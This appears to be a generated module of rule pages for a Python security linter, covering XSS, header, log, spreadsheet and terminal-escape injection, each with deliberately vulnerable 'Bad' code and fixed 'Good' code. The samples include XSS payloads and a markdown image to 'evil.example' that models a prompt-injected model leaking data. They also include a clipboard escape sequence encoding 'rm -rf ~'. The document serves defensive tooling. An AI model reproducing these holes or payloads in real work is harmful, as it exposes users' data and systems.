// Written by scripts/rule-pages.mjs.
export const pages: Readonly<Record<string, string>> = {
  'answer-unescaped': `# answer-unescaped

A link to such a page carries a script that the page then serves as its own.

## How to fix

Render a template with escaping, or \`markupsafe.escape\` the value.

## Bad

\`\`\`python
from flask import Flask, make_response, request

app = Flask(__name__)


@app.route("/hello")
def hello():
    name = request.args.get("name", "you")
    page = "<h1>Hello " + name + "</h1>"
    make_response(f"<p>{name}</p>")  # error: [answer-unescaped]
    return page  # error: [answer-unescaped]


@app.route("/user/<name>")
def user(name):
    return f"<h1>{name}</h1>"  # error: [answer-unescaped]
\`\`\`

\`\`\`python
from fastapi import FastAPI
from fastapi.responses import HTMLResponse
from flask import Flask, request

app = Flask(__name__)
api = FastAPI()


def page(title, body):
    return "<title>" + title + "</title><body>" + body + "</body>"


@app.route("/search")
def search():
    return page("Search", request.args["q"])  # error: [answer-unescaped]


@app.errorhandler(404)
def missing(error):
    return "Not found: " + request.path, 404  # error: [answer-unescaped]


@api.get("/hello", response_class=HTMLResponse)
async def hello(name: str):
    return f"<h1>{name}</h1>"  # error: [answer-unescaped]
\`\`\`

\`\`\`python
import markdown
from flask import Flask, request

app = Flask(__name__)


@app.get("/note")
def note():
    return markdown.markdown(request.args["text"])  # error: [answer-unescaped]
\`\`\`

\`\`\`python
from flask import Flask, request

app = Flask(__name__)


@app.get("/list")
def items():
    body = ["<ul>"]
    for item in request.args.getlist("item"):
        body.append("<li>%s</li>" % item)
    return "".join(body)  # error: [answer-unescaped]
\`\`\`

## Good

\`\`\`python
from flask import Flask, jsonify, render_template, request
from markupsafe import escape

app = Flask(__name__)


@app.route("/hello")
def hello():
    name = request.args.get("name", "you")
    if name == "json":
        return jsonify({"name": name})
    if name == "raw":
        return {"name": name}
    if name == "page":
        return render_template("hello.html", name=name)
    return f"<h1>Hello {escape(name)}</h1>"


@app.route("/n/<int:n>")
def number(n: int):
    return f"<h1>{n}</h1>"
\`\`\`

\`\`\`python
from flask import Flask

app = Flask(__name__)


@app.route("/items/<int:number>")
def item(number):
    return f"<h1>Item {number}</h1>"
\`\`\`

\`\`\`python
import bleach
import markdown
from flask import Flask, request
from markupsafe import Markup

app = Flask(__name__)


@app.get("/a")
def a():
    return Markup("<b>%s</b>") % request.args["name"]


@app.get("/b")
def b():
    return Markup("<b>{}</b>").format(request.args["name"])


@app.get("/c")
def c():
    return bleach.clean(markdown.markdown(request.args["text"]))
\`\`\`
`,
  'autoescape-off': `# autoescape-off

Jinja2 escapes nothing unless it is told to (Flask tells it), nor does Mako. Templates for anything but HTML need no escaping, so without a sign of HTML in the file nothing is reported.

## How to fix

\`autoescape=select_autoescape()\`; \`default_filters=["h"]\` for Mako.

## Bad

\`\`\`python
import jinja2
from mako.template import Template

env = jinja2.Environment(autoescape=False)  # error: [autoescape-off]
env = jinja2.Environment(loader=loader)  # error: [autoescape-off]
page = env.get_template("index.html")
other = Template("\${name}")  # error: [autoescape-off]
\`\`\`

\`\`\`python
from django.template import Template
from flask import render_template_string

card = Template("<b>{{ name|safe }}</b>")  # error: [autoescape-off]
note = Template("{% autoescape off %}{{ note }}{% endautoescape %}")  # error: [autoescape-off]


def page(name):
    return render_template_string("<p>{{ name | safe }}</p>", name=name)  # error: [autoescape-off]
\`\`\`

## Good

\`\`\`python
import jinja2
from jinja2 import select_autoescape

env = jinja2.Environment(autoescape=True)
env = jinja2.Environment(autoescape=select_autoescape())
env = jinja2.Environment(**options)
page = env.get_template("index.html")
\`\`\`

\`\`\`python
from django.template import Template

card = Template("<b>{{ name }}</b> is safe")
\`\`\`
`,
  'header-injection': `# header-injection

A line break in a header ends it and begins another, or the body. Most servers refuse it today; what they don't refuse is a header that says what a client wants, such as the allowed origin.

## How to fix

Take the value from a list of those that are allowed.

## Bad

\`\`\`python
from flask import Flask, make_response, request


def answer():
    response = make_response("ok")
    response.headers["X-Name"] = request.args["name"]  # error: [header-injection]
    return response
\`\`\`

\`\`\`python
from fastapi import FastAPI, Response

app = FastAPI()


@app.get("/a")
def a(name: str):
    return Response("x", headers={"X-Name": name})  # error: [header-injection]
\`\`\`

\`\`\`python
from django.http import HttpResponse


def export(request):
    answer = HttpResponse(content_type="text/csv")
    answer["Content-Disposition"] = "attachment; filename=" + request.GET["name"]  # error: [header-injection]
    return answer
\`\`\`

\`\`\`python
from bottle import request, response, route


@route("/b")
def b():
    response.set_header("X-Q", request.query.q)  # error: [header-injection]
    return "ok"
\`\`\`

## Good

\`\`\`python
from flask import make_response, request

NAMES = {"a": "Ann"}


def answer():
    response = make_response("ok")
    response.headers["X-Name"] = NAMES[request.args["name"]]
    response.headers["X-Count"] = "1"
    return response
\`\`\`

\`\`\`python
from fastapi import FastAPI, Response

app = FastAPI()


@app.get("/a")
def a(number: int):
    return Response("x", headers={"X-Number": f"{number}"})
\`\`\`

\`\`\`python
from django.http import HttpResponse


def export(request):
    answer = HttpResponse(content_type="text/csv")
    answer["Content-Disposition"] = "attachment; filename=rows.csv"
    rows = {}
    rows["name"] = request.GET["name"]
    return answer
\`\`\`

\`\`\`python
import jwt
from fastapi import FastAPI, Response

app = FastAPI()


@app.post("/login")
def login(response: Response, user: str):
    response.set_cookie("session", jwt.encode({"sub": user}, key), httponly=True, secure=True)
\`\`\`
`,
  'html-shown': `# html-shown

HTML from outside brings scripts along, which act in the name of whoever looks at the page or notebook.

## How to fix

\`html.escape\` the value, or show it as text.

## Bad

\`\`\`python
import requests
from IPython.display import HTML as show
from IPython.display import display
from openai import OpenAI

page = requests.get("https://example.com", timeout=5).text
display(show(page))  # error: [html-shown]
client = OpenAI()
answer = client.chat.completions.create(model="m", messages=[])
show("<b>" + answer.choices[0].message.content + "</b>")  # error: [model-output-as-markup]
\`\`\`

## Good

\`\`\`python
import html

import pandas as pd
import requests
from IPython.display import HTML

page = requests.get("https://example.com", timeout=5).text
HTML(html.escape(page))
HTML("<b>done</b>")
HTML(pd.DataFrame({"a": [1]}).to_html())
\`\`\`
`,
  'log-injection': `# log-injection

A line break in a value starts a line in the log that the writer made up.

## How to fix

Log \`repr(value)\`, or use a formatter that escapes.

## Bad

\`\`\`python
import logging

from flask import request

logger = logging.getLogger(__name__)


def login():
    logger.info("login of %s", request.form["user"])  # error: [log-injection]
\`\`\`

## Good

\`\`\`python
import logging

from flask import request


def login():
    logging.info("login of %s", repr(request.form["user"]))
    logging.info("login of %d", int(request.form["id"]))
\`\`\`

\`\`\`python
import logging

from flask import Flask, request

app = Flask(__name__)


@app.post("/login")
def login():
    logging.warning("bad login for %s", request.form["user"].replace("\\n", "").replace("\\r", ""))
    return ""
\`\`\`
`,
  'markup-trusted': `# markup-trusted

The mark tells the template to leave the value alone, scripts included.

## How to fix

\`format_html("<b>{}</b>", value)\`, \`Markup("<b>{}</b>").format(value)\`, or \`escape(value)\`.

## Bad

\`\`\`python
from django.utils.safestring import mark_safe as trust
from flask import request
from markupsafe import Markup


def hello(name):
    Markup("<b>" + name + "</b>")  # error: [markup-trusted]
    return trust(request.args["name"])  # error: [markup-trusted]
\`\`\`

\`\`\`python
from dash_dangerously_set_inner_html import DangerouslySetInnerHTML
from django.utils.html import mark_safe


def show(text):
    return DangerouslySetInnerHTML(text)  # error: [markup-trusted]


def view(request):
    return mark_safe(request.GET["q"])  # error: [markup-trusted]
\`\`\`

## Good

\`\`\`python
from django.utils.html import format_html
from markupsafe import Markup, escape


def hello(name):
    Markup("<b>{}</b>").format(name)
    Markup(escape(name))
    return format_html("<b>{}</b>", name)
\`\`\`
`,
  'model-output-rendered': `# model-output-rendered

A model that read a poisoned document writes \`![](https://evil.example/?q=<what it knows>)\`, and the reader's browser sends the data off.

## How to fix

Show it as text, or remove pictures and links to other hosts first.

## Bad

\`\`\`python
import streamlit as st
from IPython.display import Markdown
from openai import OpenAI

answer = OpenAI().chat.completions.create(model="m", messages=[])
text = answer.choices[0].message.content
Markdown(text)  # error: [model-output-as-markup]
st.markdown(f"**Answer:** {text}")  # error: [model-output-rendered]
\`\`\`

## Good

\`\`\`python
import streamlit as st
from openai import OpenAI

answer = OpenAI().chat.completions.create(model="m", messages=[])
st.text(answer.choices[0].message.content)
st.markdown("**Answer:**")
\`\`\`
`,
  'sanitizing-off': `# sanitizing-off

These components clean what they show, unless they are told not to.

## How to fix

Leave it on.

## Bad

\`\`\`python
import bleach
import gradio as gr

chat = gr.Chatbot(sanitize_html=False)  # error: [sanitizing-off]
text = bleach.clean(text, tags=["b", "script"])  # error: [sanitizing-off]
\`\`\`

## Good

\`\`\`python
import bleach
import gradio as gr

chat = gr.Chatbot()
text = bleach.clean(text, tags=["b", "i"])
other = gr.Markdown("x", sanitize_html=True)
\`\`\`
`,
  'script-shown': `# script-shown

A script in a notebook's output acts as its reader: it can run cells, read files through the server, and send them away.

## How to fix

Show results as values, tables and figures.

## Bad

\`\`\`python
from IPython.display import HTML, Javascript

Javascript("alert(1)")  # error: [script-shown]
code = "<img src=x " + "onerror=alert(1)>"
HTML(code)  # error: [script-shown]
\`\`\`

## Good

\`\`\`python
from IPython.display import HTML

HTML("<b>no script</b>")
text = "<script>"
\`\`\`
`,
  'spreadsheet-formula': `# spreadsheet-formula

A cell that begins with \`=\` is a program to a spreadsheet: \`=HYPERLINK(...)\` sends the neighbouring cells away.

## How to fix

Put a \`'\` before values that begin with \`=\`, \`+\`, \`-\`, \`@\`, tab or carriage return.

## Bad

\`\`\`python
import csv

from flask import request

with open("out.csv", "w") as file:
    writer = csv.writer(file)
    writer.writerow([request.form["name"], 1])  # error: [spreadsheet-formula]
\`\`\`

## Good

\`\`\`python
import csv

with open("out.csv", "w") as file:
    writer = csv.writer(file)
    writer.writerow(["=SUM(A1)", 1])
    writer.writerow(rows)
\`\`\`
`,
  'streamlit-unsafe-html': `# streamlit-unsafe-html

\`unsafe_allow_html=True\` is meant for the styles of the app itself. A value within it is markup that its writer chooses.

## How to fix

\`html.escape\` the value; constant markup is fine.

## Bad

\`\`\`python
import streamlit as st

name = st.text_input("Name")
st.markdown(f"<h1>{name}</h1>", unsafe_allow_html=True)  # error: [streamlit-unsafe-html]


def card(title):
    st.write("<b>" + title + "</b>", unsafe_allow_html=True)  # error: [streamlit-unsafe-html]
\`\`\`

## Good

\`\`\`python
import html

import streamlit as st

name = st.text_input("Name")
STYLE = "<style>h1 { color: red }</style>"
st.markdown(STYLE, unsafe_allow_html=True)
st.markdown(f"<h1>{html.escape(name)}</h1>", unsafe_allow_html=True)
st.markdown(f"# {name}")
\`\`\`
`,
  'table-html-unescaped': `# table-html-unescaped

\`escape=False\` turns each cell into markup: a name such as \`<script src=...>\` runs for whoever opens the report.

## How to fix

Leave \`escape\` on, and escape the parts of a link by hand.

## Bad

\`\`\`python
import pandas as pd

df = pd.read_csv("people.csv")
df.to_html("out.html", escape=False)  # error: [table-html-unescaped]
options = {"escape": False}
page = df.head().to_html(**options)  # error: [table-html-unescaped]
\`\`\`

## Good

\`\`\`python
import pandas as pd

df = pd.read_csv("people.csv")
df.to_html("out.html")
df.to_html(escape=True)
df.to_csv("out.csv", escapechar=None)
\`\`\`
`,
  'terminal-escape': `# terminal-escape

Terminals obey what is printed: sequences set the clipboard, hide text, rename windows and make the terminal type answers.

## How to fix

Use colours only; make unknown text visible with \`repr\`.

## Bad

\`\`\`python
print("\\x1b]52;c;cm0gLXJmIH4=\\x07")  # error: [terminal-escape]
print("\\033[8mhidden\\033[0m")  # error: [terminal-escape]
\`\`\`

## Good

\`\`\`python
RED = "\\x1b[31m"
print(RED + "stop" + "\\033[0m")
print(r"\\x1b]52;c;")
\`\`\`
`,
}
